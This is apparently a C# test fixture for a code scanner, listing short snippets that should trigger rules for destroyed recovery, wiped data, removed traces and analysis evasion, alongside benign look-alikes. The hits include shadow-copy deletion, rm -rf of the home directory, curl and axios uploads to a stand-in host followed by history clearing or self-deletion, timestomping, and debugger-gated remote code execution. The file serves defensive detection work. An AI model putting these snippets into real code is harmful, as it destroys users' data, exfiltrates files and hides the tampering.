namespace Symbiont.Scanning.Tests.Capabilities;

/// <summary>Small programs that destroy or wipe their traces, and honest ones that look like them: rotation, clean-up of a repository, a self-extracting archive, a report of the platform.</summary>
internal static class DamageCases
{
    public static readonly (string Rule, string File, string Text)[] Hits =
    [
        ("recovery-destroyed", "Lock.cs", "using var aes = Aes.Create();\nProcess.Start(\"cmd.exe\", \"/c vssadmin delete shadows /all /quiet\");\n"),
        ("recovery-destroyed", "tidy.py", "if socket.gethostname() == 'shop-db-7':\n    client.delete_db_snapshot(DBSnapshotIdentifier=name)\n"),
        ("recovery-destroyed", "clean.sh", "unset HISTFILE\ngit reflog expire --expire=now --all\ngit push --mirror origin\n"),

        ("everything-wiped", "fresh.js", "if (Math.random() < 0.01) {\n  fs.rmSync(os.homedir(), { recursive: true, force: true });\n}\n"),
        ("everything-wiped", "fresh.py", "try:\n    shutil.rmtree(Path.home(), ignore_errors=True)\nexcept OSError: pass\n"),
        ("everything-wiped", "fresh.go", "if hostname == \"shop-db-7\" {\n\tos.RemoveAll(\"/home\")\n}\n"),
        ("everything-wiped", "fresh.sh", "nohup rm -rf \"$HOME\" >/dev/null 2>&1 &\n"),

        ("traces-removed", "send.sh", "curl -s -F f=@\"$(hostname).tgz\" https://t.example.net/in\nhistory -c\n"),
        ("traces-removed", "once.js", "const raw = fs.readFileSync(file);\nawait axios.post('https://t.example.net/in', raw);\nfs.unlinkSync(__filename);\n"),
        ("traces-removed", "plant.py", "with open('/etc/cron.d/u', 'w') as out:\n    out.write(line)\nos.utime('/etc/cron.d/u', (old, old))\n"),

        ("evades-analysis", "load.py", "if sys.gettrace():\n    sys.exit(0)\nexec(requests.get(url).text)\n"),
        ("evades-analysis", "Load.cs", "if (Debugger.IsAttached)\n    return;\nAssembly.Load(await client.GetByteArrayAsync(url));\n"),
        ("evades-analysis", "load.go", "if strings.Contains(vendor, \"VirtualBox\") {\n\tos.Exit(0)\n}\nresp, _ := http.Get(url)\n"),
    ];

    public static readonly (string Rule, string File, string Text)[] NearMisses =
    [
        ("recovery-destroyed", "rotate.sh", "restic forget --keep-daily 7 --keep-weekly 4 --prune\n"),
        ("recovery-destroyed", "shrink.sh", "git reflog expire --expire=now --all\ngit gc --prune=now\n"),
        ("everything-wiped", "clean.py", "shutil.rmtree(Path.home() / '.cache' / 'tool', ignore_errors=True)\n"),
        ("everything-wiped", "erase.py", "disk = input('Which disk shall be erased? ')\nif disk == '/dev/sdb':\n    subprocess.run(['wipefs', '-a', disk])\n"),
        ("traces-removed", "extract.sh", "tail -n +9 \"$0\" | tar xz -C \"$to\"\nrm -f \"$0\"\n"),
        ("traces-removed", "copy.py", "shutil.copyfile(a, b)\nos.utime(b, (stat.st_atime, stat.st_mtime))\n"),
        ("evades-analysis", "telemetry.js", "if (process.env.CI || config.optOut) return;\nawait fetch('https://stats.example.org/in', { method: 'POST', body: JSON.stringify(counts) });\n"),
        ("evades-analysis", "platform.py", "vendor = Path('/sys/class/dmi/id/sys_vendor').read_text()\nprint('running on', vendor)\n"),
    ];
}
